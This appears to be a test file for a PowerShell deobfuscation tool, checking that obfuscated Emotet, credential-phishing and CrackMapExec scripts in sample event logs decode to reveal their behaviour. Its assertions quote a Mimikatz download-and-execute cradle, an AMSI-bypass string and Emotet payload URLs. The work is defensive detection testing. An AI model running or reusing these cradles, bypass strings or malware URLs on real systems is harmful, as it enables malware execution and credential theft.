// PowerShell logs in the corpus that carry obfuscated script: Emotet's maldoc stager (4104 and
// classic 800, concatenation/backtick/format obfuscation), a credential phish delivered as a
// GzipStream+FromBase64String script block, and CrackMapExec's launchers (char codes joined with
// $OFS, -JOIN of [char] codes). Records are read with the project's own reader; the decoded
// layers must reveal what the script does (URLs, New-Object Net.WebClient, IEX of a download).
import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { deobfuscate } from '../../src/decode/index.js';
import { readAll } from '../../src/ingest/read.js';
import { corpusPath, hasCorpus } from '../helpers/corpus.js';

/** Script text of each record: 4104 ScriptBlockText; classic 400/800 Data (its HostApplication command line when it has one). */
async function scripts(file: string): Promise<string[]> {
  const out: string[] = [];
  for await (const item of readAll([file])) {
    if (!('results' in item)) continue;
    for (const r of item.results) {
      const d = r.record?.data as Record<string, unknown> | undefined;
      if (!d) continue;
      if (typeof d.ScriptBlockText === 'string') out.push(d.ScriptBlockText);
      // classic 800: Data[0] is the pipeline's script; 400/800 details carry HostApplication=<command line>
      const items = (Array.isArray(d.Data) ? d.Data : [d.Data]).filter((x): x is string => typeof x === 'string');
      const host = /HostApplication=(.*)/.exec(items.join('\n'))?.[1]?.trim();
      if (r.record!.system.eventId === 800 && items[0]) out.push(items[0]);
      if (host) out.push(host);
    }
  }
  return out;
}

/** Every decoded layer of every script of a file, joined (what detection would see besides the raw text). */
async function decodedText(file: string): Promise<string> {
  const layers: string[] = [];
  for (const s of await scripts(file)) layers.push(...deobfuscate(s).layers.slice(1).map((l) => l.text));
  return layers.join('\n');
}

const EVTX = (...p: string[]): string => corpusPath('evtx-attack-samples', ...p);
const CME = (f: string): string => corpusPath('hayabusa-sample-evtx', 'EVTX-to-MITRE-Attack', 'TA0005-Defense Evasion', 'T1027-Obfuscated Files or Information', f);

test('Emotet 4104: concatenation and backticks fold into the download loop', { skip: !hasCorpus }, async () => {
  const t = await decodedText(EVTX('Other', 'emotet', 'exec_emotet_ps_4104.evtx'));
  assert.match(t, /new-object neT\.WEbcLiENt/i);
  assert.match(t, /new-item \$eNV:teMP/i);
  assert.match(t, /'http:\/\/quanticaelectronics\.com\/wp-admin\/7ATr78\/\*https:\/\/rebelcom\.ch/);
  assert.match(t, /\.Split/i);
});

for (const f of ['exec_emotet_ps_800_new-object.evtx', 'exec_emotet_ps_800_get-item.evtx', 'exec_emotet_ps_800_new-item.evtx', 'exec_emotet_ps_800_invoke-item.evtx']) {
  test(`Emotet ${f}: the launcher's layers name the web client and the URLs`, { skip: !hasCorpus }, async () => {
    const t = await decodedText(EVTX('Other', 'emotet', f));
    assert.match(t, /net\.webclient/i);
    assert.match(t, /https?:\/\/[a-z0-9.-]+\.[a-z]{2,}\//i);
  });
}

test('credential phish 4104: GzipStream(FromBase64String) decompresses to the prompt', { skip: !hasCorpus }, async () => {
  const file = EVTX('Credential Access', 'phish_windows_credentials_powershell_scriptblockLog_4104.evtx');
  const src = (await scripts(file)).find((s) => /GzipStream/i.test(s))!;
  const { layers } = deobfuscate(src);
  const gz = layers.find((l) => l.technique === 'gzip');
  assert.ok(gz, layers.map((l) => l.technique).join(','));
  assert.match(gz.text, /PromptForCredential/);
  assert.equal(gz.from?.layer, 0);
});

test('CrackMapExec 4104: $OFS-joined char codes reveal the Mimikatz download cradle', { skip: !hasCorpus }, async () => {
  const t = await decodedText(CME('ID4103-4104-CrackMapExec payload execution.evtx'));
  assert.match(t, /IEX \(New-Object Net\.WebClient\)\.DownloadString\('https:\/\/10\.23\.123\.11:443\/Invoke-Mimikatz\.ps1'\)/);
  assert.match(t, /amsiInitFailed|'am'\+'siIni'\+'tFailed'/);
});

test('CrackMapExec 400/800: the -JOIN launcher on the host command line decodes', { skip: !hasCorpus }, async () => {
  const t = await decodedText(CME('ID400-800-CrackMapExec payload execution.evtx'));
  assert.match(t, /New-Object Net\.WebClient/);
  assert.match(t, /DownloadString\('https?:\/\//);
});
